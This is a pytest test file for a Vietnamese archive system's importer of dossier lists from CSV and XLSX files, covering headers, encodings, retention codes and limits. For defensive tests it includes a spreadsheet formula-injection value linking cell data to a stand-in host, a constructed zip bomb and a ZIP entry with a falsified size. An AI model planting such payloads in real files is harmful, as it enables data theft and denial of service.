"""Reading a dossier list from CSV and XLSX files, and the dry run over them."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from collections.abc import Sequence

import pytest
from openpyxl import Workbook

from vanban.archive.adapters import list_import
from vanban.archive.adapters.list_import import (
    MAX_XLSX_EXPANDED_BYTES,
    XLSX_MEDIA_TYPE,
    ListFormat,
    check_file,
    list_format,
    read_rows,
)
from vanban.archive.domain.dossier_list import (
    MAX_LIST_FILE_BYTES,
    MAX_LIST_ROWS,
    WHOLE_FILE,
    ImportProblem,
    ListFileError,
)

YEAR = 2026
# What a test puts in a cell.
Value = str | int | float | None
HEADER = (
    "code",
    "title",
    "retention",
    "retention_years",
    "access",
    "creator_unit",
    "responsible",
    "notes",
)
# The columns as the official form prints them, with the two this system adds.
FORM_HEADER = (
    "STT",
    "Số và ký hiệu hồ sơ",
    "Tên đề mục và tiêu đề hồ sơ",
    "Thời hạn bảo quản",
    "Chế độ sử dụng",
    "Đơn vị lập hồ sơ",
    "Người lập hồ sơ",
    "Ghi chú",
)
LIST_2026: list[tuple[str, ...]] = [
    ("01.TCCB", "Hồ sơ tuyển dụng công chức năm 2026", "02", "", "02", "TCCB", "nguyenvana", ""),
    ("02.VP", "Tập lưu văn bản đi năm 2026", "06", "", "01", "VP", "tranthib", ""),
    ("03.VP-HC", "Hồ sơ hội nghị tổng kết năm 2026", "01", "", "01", "VP", "", "Kèm ảnh, băng"),
    ("04.KHTC", "Hồ sơ dự toán ngân sách năm 2027", "04", "", "02", "KHTC", "levanc", ""),
    ("05.TCCB", "Hồ sơ nâng bậc lương năm 2026", "07", "15", "03", "TCCB", "nguyenvana", ""),
    ("06.VP", "Sổ theo dõi sử dụng xe công", "07", "5", "01", "VP", "", "Giá trị ngắn"),
]
# The same list on the official form: retention as the form writes it.
FORM_2026: list[tuple[Value, ...]] = [
    (
        1,
        "01.TCCB",
        "Hồ sơ tuyển dụng công chức năm 2026",
        "70 năm",
        "Sử dụng có điều kiện",
        "TCCB",
        "nguyenvana",
        "",
    ),
    (2, "02.VP", "Tập lưu văn bản đi năm 2026", "10 năm", "Công khai", "VP", "tranthib", ""),
    (
        3,
        "03.VP-HC",
        "Hồ sơ hội nghị tổng kết năm 2026",
        "Vĩnh viễn",
        "Công khai",
        "VP",
        "",
        "Kèm ảnh, băng",
    ),
    (
        4,
        "04.KHTC",
        "Hồ sơ dự toán ngân sách năm 2027",
        "30 năm",
        "Sử dụng có điều kiện",
        "KHTC",
        "levanc",
        "",
    ),
    (5, "05.TCCB", "Hồ sơ nâng bậc lương năm 2026", "15 năm", "Mật", "TCCB", "nguyenvana", ""),
    (6, "06.VP", "Sổ theo dõi sử dụng xe công", "5 năm", "Công khai", "VP", "", "Giá trị ngắn"),
]
EXPECTED = [
    ("01.TCCB", "02", 70, "02"),
    ("02.VP", "06", 10, "01"),
    ("03.VP-HC", "01", None, "01"),
    ("04.KHTC", "04", 30, "02"),
    ("05.TCCB", "07", 15, "03"),
    ("06.VP", "07", 5, "01"),
]


def csv_bytes(
    rows: Sequence[Sequence[object]], *, delimiter: str = ",", bom: bool = False
) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (("\ufeff" if bom else "") + out.getvalue()).encode()


def xlsx_bytes(rows: Sequence[Sequence[Value]], *, start_row: int = 1) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Danh mục hồ sơ 2026"
    for row_number, row in enumerate(rows, start=start_row):
        for column, value in enumerate(row, start=1):
            if value is not None:
                sheet.cell(row=row_number, column=column, value=value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def summary(data: bytes, *, filename: str) -> list[tuple[str, str, int | None, str]]:
    report = check_file(data, year=YEAR, filename=filename)
    assert report.problems == ()
    return [(e.code, e.retention, e.retention_years, e.access) for e in report.entries]


def file_problems(data: bytes, **hint: str) -> tuple[ImportProblem, ...]:
    with pytest.raises(ListFileError) as caught:
        read_rows(data, **hint)
    return caught.value.problems


class TestFormat:
    @pytest.mark.parametrize(
        ("media_type", "filename", "expected"),
        [
            ("text/csv", None, ListFormat.CSV),
            ("text/csv; charset=utf-8", "x.xlsx", ListFormat.CSV),
            (XLSX_MEDIA_TYPE, None, ListFormat.XLSX),
            ("application/octet-stream", "danh-muc.CSV", ListFormat.CSV),
            ("application/vnd.ms-excel", "danh-muc.csv", ListFormat.CSV),
            (None, r"C:\Users\vanthu\Danh mục 2026.xlsx", ListFormat.XLSX),
        ],
    )
    def test_by_media_type_else_by_name(
        self, media_type: str | None, filename: str | None, expected: ListFormat
    ) -> None:
        assert list_format(media_type=media_type, filename=filename) is expected

    @pytest.mark.parametrize(
        ("filename", "words"),
        [
            ("danh-muc.xls", "is a .xls file"),
            ("danh-muc.pdf", "must be a CSV or XLSX"),
            (None, "CSV or XLSX"),
        ],
    )
    def test_other_files_are_refused(self, filename: str | None, words: str) -> None:
        (problem,) = file_problems(b"x", filename=filename or "")
        assert problem.line == WHOLE_FILE and words in problem.message


class TestCsv:
    def test_a_list_with_english_headers(self) -> None:
        data = csv_bytes([HEADER, *LIST_2026])
        rows = read_rows(data, media_type="text/csv")
        assert [line for line, _ in rows] == [2, 3, 4, 5, 6, 7]
        assert rows[0][1]["title"] == "Hồ sơ tuyển dụng công chức năm 2026"
        assert summary(data, filename="danh-muc.csv") == EXPECTED

    def test_a_bom_and_semicolons_as_excel_writes_them_in_vietnam(self) -> None:
        data = csv_bytes([FORM_HEADER, *FORM_2026], delimiter=";", bom=True)
        assert data.startswith(b"\xef\xbb\xbf") and b";" in data
        assert summary(data, filename="danh-muc.csv") == EXPECTED

    def test_lines_are_rows_as_a_spreadsheet_shows_them(self) -> None:
        text = (
            ",".join(HEADER) + "\n"
            "01.TCCB,Hồ sơ tuyển dụng,02,,02,TCCB,,\n"
            "\n"
            ',,,,,,,\n02.VP,"Tập lưu văn bản đi\n(bản giấy)",06,,01,VP,,\n'
            "03.VP,Hồ sơ hội nghị,08,,01,VP,,\n"
        )
        rows = read_rows(text.encode(), filename="x.csv")
        assert [(line, row["code"]) for line, row in rows] == [
            (2, "01.TCCB"),
            (5, "02.VP"),
            (6, "03.VP"),
        ]
        report = check_file(text.encode(), year=YEAR, filename="x.csv")
        assert [(p.line, p.field) for p in report.problems] == [(6, "retention")]

    def test_short_rows_leave_the_last_fields_empty(self) -> None:
        data = csv_bytes([HEADER, ("01.TCCB", "Hồ sơ tuyển dụng", "02", "", "02", "TCCB")])
        assert check_file(data, year=YEAR, filename="x.csv").ok

    def test_a_value_beyond_the_header_is_a_problem_on_its_line(self) -> None:
        data = csv_bytes([HEADER, (*LIST_2026[0], "thừa"), (*LIST_2026[1], "", "")])
        report = check_file(data, year=YEAR, filename="x.csv")
        assert [(p.line, p.field) for p in report.problems] == [(2, "column I")]

    def test_formulas_are_text_never_evaluated(self) -> None:
        title = '=HYPERLINK("http://example.invalid/?"&A1,"Hồ sơ")'
        data = csv_bytes(
            [
                HEADER,
                ("01.TCCB", title, "02", "", "02", "TCCB", "", "+84 912 345 678"),
                ("=1+1", "Hồ sơ", "02", "", "02", "VP", "", ""),
            ]
        )
        report = check_file(data, year=YEAR, filename="x.csv")
        assert report.entries[0].title == title
        assert report.entries[0].notes == "+84 912 345 678"
        assert [(p.line, p.field) for p in report.problems] == [(3, "code")]

    def test_text_that_is_not_utf8_is_refused_with_the_way_out(self) -> None:
        # "Hồ sơ" as Windows-1258 writes it, with a combining tone mark.
        data = "code,title\n01.TCCB,H\u00f4\u0300 sơ\n".encode("cp1258")
        (problem,) = file_problems(data, filename="x.csv")
        assert problem.line == WHOLE_FILE
        assert "not UTF-8" in problem.message and "line 2" in problem.message
        assert "CSV UTF-8" in problem.message

    def test_a_broken_quote_names_its_line(self) -> None:
        text = ",".join(HEADER) + '\n01.TCCB,"Hồ sơ" tuyển dụng,02,,02,TCCB,,\n'
        (problem,) = file_problems(text.encode(), filename="x.csv")
        assert problem.line == 2 and "cannot be read as CSV" in problem.message


class TestHeader:
    @pytest.mark.parametrize(
        ("header", "field"),
        [
            ("Số và ký hiệu hồ sơ", "code"),
            ("SỐ VÀ KÝ HIỆU HỒ SƠ", "code"),
            ("so va ky hieu ho so", "code"),
            ("Ký hiệu hồ sơ", "code"),
            ("Tên đề mục và tiêu đề hồ sơ", "title"),
            ("Tiêu đề hồ sơ", "title"),
            ("Thời hạn bảo quản", "retention"),
            ("Chế độ sử dụng", "access"),
            ("Chế độ truy cập", "access"),
            ("Đơn vị lập hồ sơ", "creator_unit"),
            ("Đơn vị/người lập hồ sơ", "creator_unit"),
            ("Người lập hồ sơ", "responsible"),
            ("Ghi chú", "notes"),
            ("Retention years", "retention_years"),
            (" CODE ", "code"),
        ],
    )
    def test_a_column_by_its_english_or_vietnamese_name(self, header: str, field: str) -> None:
        names = {name: name for name in HEADER}
        names[field] = header
        values = dict(zip(HEADER, LIST_2026[4], strict=True))
        data = csv_bytes([list(names.values()), list(values.values())])
        ((line, row),) = read_rows(data, filename="x.csv")
        assert line == 2 and row[field] == values[field]

    def test_every_header_problem_is_reported_on_line_1_at_once(self) -> None:
        header = ("Số TT", "Ký hiệu hồ sơ", "Tiêu đề", "Thời hạn", "code", "Ghi chú")
        problems = file_problems(csv_bytes([header, ("1", "01.TCCB")]), filename="x.csv")
        assert [(p.line, p.field) for p in problems] == [
            (1, "code"),
            (1, "title"),
            (1, "retention"),
            (1, "access"),
            (1, "creator_unit"),
            (1, "Thời hạn"),
            (1, "Tiêu đề"),
        ]
        messages = {p.field: p.message for p in problems}
        assert messages["code"] == "is the same column as Ký hiệu hồ sơ"
        assert messages["retention"] == "is a required column (“Thời hạn bảo quản” on the form)"
        assert messages["Tiêu đề"].startswith("is not a column of the dossier list")

    def test_the_dry_run_reports_header_problems_as_problems(self) -> None:
        report = check_file(csv_bytes([("code", "title")]), year=YEAR, filename="x.csv")
        assert not report.ok and report.entries == ()
        assert {p.line for p in report.problems} == {1}

    def test_line_1_must_be_the_header(self) -> None:
        (problem,) = file_problems("\n01.TCCB,Hồ sơ\n".encode(), filename="x.csv")
        assert problem == ImportProblem(
            1, "", "must be the header naming the columns, such as code"
        )
        (problem,) = file_problems(b"", filename="x.csv")
        assert problem == ImportProblem(WHOLE_FILE, "", "is empty")

    def test_a_numbering_column_is_ignored_and_a_numbered_empty_row_skipped(self) -> None:
        rows = read_rows(
            csv_bytes([FORM_HEADER, FORM_2026[0], (2, "", "", "", "", "", "", "")]),
            filename="x.csv",
        )
        assert [line for line, _ in rows] == [2]
        assert "STT" not in rows[0][1]


class TestXlsx:
    def test_a_list_built_in_a_spreadsheet(self) -> None:
        data = xlsx_bytes([HEADER, *LIST_2026])
        rows = read_rows(data, media_type=XLSX_MEDIA_TYPE)
        assert [line for line, _ in rows] == [2, 3, 4, 5, 6, 7]
        assert summary(data, filename="danh-muc.xlsx") == EXPECTED

    def test_the_official_form_with_numbers_typed_as_numbers(self) -> None:
        rows: list[tuple[Value, ...]] = [FORM_HEADER, *FORM_2026]
        # A spreadsheet turns 01 into the number 1, and 15 into 15.0 after a calculation.
        rows.append((7, "07.VP", "Hồ sơ kiểm kê tài sản", 1, 3, "VP", None, None))
        data = xlsx_bytes(rows)
        report = check_file(data, year=YEAR, filename="danh-muc.xlsx")
        assert report.ok
        assert [(e.code, e.retention, e.access) for e in report.entries][-1] == (
            "07.VP",
            "01",
            "03",
        )

    def test_numbers_read_as_they_are_shown(self) -> None:
        data = xlsx_bytes([HEADER, ("01.TCCB", "Hồ sơ", "07", 15.0, 2, "TCCB", None, 2026)])
        ((_, row),) = read_rows(data, filename="x.xlsx")
        assert (row["retention_years"], row["access"], row["notes"]) == ("15", "2", "2026")

    def test_lines_are_row_numbers_and_empty_rows_are_skipped(self) -> None:
        data = xlsx_bytes(
            [
                HEADER,
                LIST_2026[0],
                (),
                (None, "  "),
                LIST_2026[1],
                (),
                ("03.VP", "Hồ sơ", "abc", "", "01", "VP"),
            ]
        )
        rows = read_rows(data, filename="x.xlsx")
        assert [line for line, _ in rows] == [2, 5, 7]
        report = check_file(data, year=YEAR, filename="x.xlsx")
        assert [(p.line, p.field) for p in report.problems] == [(7, "retention")]

    def test_several_problems_on_different_lines_are_all_reported(self) -> None:
        data = xlsx_bytes(
            [
                FORM_HEADER,
                FORM_2026[0],
                (2, "02.VP", "Tập lưu văn bản đi", "08", "Công khai", "VP", "", ""),
                (3, "VP.03", "", "Vĩnh viễn", "Công khai", "VP", "Nguyễn Văn A", ""),
                FORM_2026[3],
                (5, "01.tccb", "Hồ sơ thi nâng ngạch", "Khác", "Tối mật", "TCCB", "", ""),
            ]
        )
        report = check_file(data, year=YEAR, filename="x.xlsx")
        assert [(p.line, p.field) for p in report.problems] == [
            (2, "code"),
            (3, "retention"),
            (4, "code"),
            (4, "title"),
            (4, "responsible"),
            (6, "code"),
            (6, "retention_years"),
            (6, "access"),
        ]
        assert [e.code for e in report.entries] == ["04.KHTC"]
        messages = {(p.line, p.field): p.message for p in report.problems}
        assert messages[(2, "code")] == "01.TCCB also appears on line 6"
        assert messages[(3, "retention")].startswith("unknown retention code 08")

    def test_a_formula_is_not_evaluated_and_text_like_one_is_kept(self) -> None:
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(HEADER)
        sheet.append(["01.TCCB", '=CONCATENATE("Hồ sơ ","tuyển dụng")', "02", "", "02", "TCCB"])
        sheet.append(["02.VP", "Tập lưu", "06", "", "01", "VP", "", "=1+1"])
        sheet["H3"].data_type = "s"  # typed as text, as a user prefixing an apostrophe does
        out = io.BytesIO()
        book.save(out)
        report = check_file(out.getvalue(), year=YEAR, filename="x.xlsx")
        # openpyxl saved no computed value: the formula's cell reads empty, it is never run.
        assert [(p.line, p.field, p.message) for p in report.problems] == [
            (2, "title", "is required")
        ]
        assert report.entries[0].notes == "=1+1"

    def test_a_value_in_a_column_without_header_names_the_column(self) -> None:
        data = xlsx_bytes([HEADER, (*LIST_2026[0], None, "ghi thêm")])
        report = check_file(data, year=YEAR, filename="x.xlsx")
        assert [(p.line, p.field) for p in report.problems] == [(2, "column J")]

    def test_a_header_must_be_in_row_1(self) -> None:
        (problem,) = file_problems(xlsx_bytes([HEADER, *LIST_2026], start_row=3), filename="x.xlsx")
        assert problem.line == 1 and "header" in problem.message

    def test_only_the_first_worksheet_is_read(self) -> None:
        book = Workbook()
        first = book.active
        assert first is not None
        for row in (HEADER, LIST_2026[0]):
            first.append(row)
        book.create_sheet("Nháp").append(("không phải", "danh mục"))
        out = io.BytesIO()
        book.save(out)
        assert [line for line, _ in read_rows(out.getvalue(), filename="x.xlsx")] == [2]

    @pytest.mark.parametrize(
        "data",
        [
            csv_bytes([HEADER, *LIST_2026]),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + bytes(100),  # an old .xls, or a password-protected one
            b"PK\x03\x04 broken",
        ],
    )
    def test_a_file_named_xlsx_that_is_not_one_is_refused(self, data: bytes) -> None:
        (problem,) = file_problems(data, filename="danh-muc.xlsx")
        assert problem.line == WHOLE_FILE
        assert problem.message.startswith("is not an XLSX workbook")

    def test_a_zip_that_is_not_a_workbook_is_refused(self) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as package:
            package.writestr("readme.txt", "xin chào")
        (problem,) = file_problems(out.getvalue(), filename="danh-muc.xlsx")
        assert problem.message.startswith("is not an XLSX workbook")

    def test_a_workbook_with_a_damaged_part_is_refused(self) -> None:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER]))) as source,
            zipfile.ZipFile(out, "w") as copy,
        ):
            for item in source.infolist():
                content = source.read(item)
                if item.filename == "xl/workbook.xml":
                    content = content[: len(content) // 2]
                copy.writestr(item, content)
        (problem,) = file_problems(out.getvalue(), filename="danh-muc.xlsx")
        assert problem.message.startswith("is not an XLSX workbook")

    def test_a_worksheet_damaged_halfway_names_the_row_it_breaks_at(self) -> None:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER, *LIST_2026 * 50]))) as source,
            zipfile.ZipFile(out, "w") as copy,
        ):
            for item in source.infolist():
                content = source.read(item)
                if item.filename == "xl/worksheets/sheet1.xml":
                    content = content[: len(content) // 2]
                copy.writestr(item, content)
        (problem,) = file_problems(out.getvalue(), filename="danh-muc.xlsx")
        assert 100 < problem.line < 250
        assert problem.message.startswith("cannot be read: the worksheet is damaged from this row")

    def test_a_zip_bomb_is_refused_before_it_is_expanded(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as package:
            package.writestr("[Content_Types].xml", "<Types/>")
            with package.open("xl/sharedStrings.xml", "w") as part:
                for _ in range(MAX_XLSX_EXPANDED_BYTES // (1024 * 1024) + 1):
                    part.write(b" " * (1024 * 1024))
        data = out.getvalue()
        assert len(data) < 100_000

        def expanded(*args: object, **kwargs: object) -> None:
            raise AssertionError("the workbook was opened")

        monkeypatch.setattr(list_import, "load_workbook", expanded)
        (problem,) = file_problems(data, filename="danh-muc.xlsx")
        assert problem.line == WHOLE_FILE and problem.message.startswith(
            "expands to 22020104 bytes"
        )

    def test_a_part_that_understates_its_size_is_cut_short_not_expanded(self) -> None:
        """The declared size is what is added up, so a member that lies about it must never
        yield more: zipfile stops at the declared size and the CRC no longer matches."""
        source = io.BytesIO(xlsx_bytes([HEADER, *LIST_2026 * 50]))
        with zipfile.ZipFile(source) as package:
            sheet = package.getinfo("xl/worksheets/sheet1.xml")
        data = bytearray(source.getvalue())
        # The sheet's entry in the central directory, whose sizes zipfile believes.
        entry = data.find(b"PK\x01\x02")
        while data[entry + 46 : entry + 46 + len(sheet.filename)] != sheet.filename.encode():
            entry = data.find(b"PK\x01\x02", entry + 1)
        assert struct.unpack_from("<I", data, entry + 24)[0] == sheet.file_size
        struct.pack_into("<I", data, entry + 24, 200)
        (problem,) = file_problems(bytes(data), filename="danh-muc.xlsx")
        assert problem.line == WHOLE_FILE
        assert problem.message.startswith("is not an XLSX workbook")


class TestLimits:
    def test_a_file_over_2_mib_is_refused_unread(self) -> None:
        (problem,) = file_problems(b"a" * (MAX_LIST_FILE_BYTES + 1), filename="x.csv")
        assert problem.line == WHOLE_FILE and "at most 2097152" in problem.message

    def test_too_many_rows_are_refused_and_reading_stops_soon_after_the_limit(self) -> None:
        rows = [(f"{n:05d}.VP", "Hồ sơ", "06", "", "01", "VP", "", "") for n in range(1, 3001)]
        data = csv_bytes([HEADER, *rows])
        assert len(read_rows(data, filename="x.csv")) == MAX_LIST_ROWS + 1
        report = check_file(data, year=YEAR, filename="x.csv")
        assert report.problems == (
            ImportProblem(
                WHOLE_FILE, "", "holds more than 2000 dossiers; a list takes at most 2000"
            ),
        )

    def test_exactly_2000_rows_of_xlsx_are_accepted(self) -> None:
        rows = [(f"{n:04d}.VP", "Hồ sơ", "06", "", "01", "VP") for n in range(1, MAX_LIST_ROWS + 1)]
        report = check_file(xlsx_bytes([HEADER, *rows]), year=YEAR, filename="x.xlsx")
        assert report.ok and len(report.entries) == MAX_LIST_ROWS
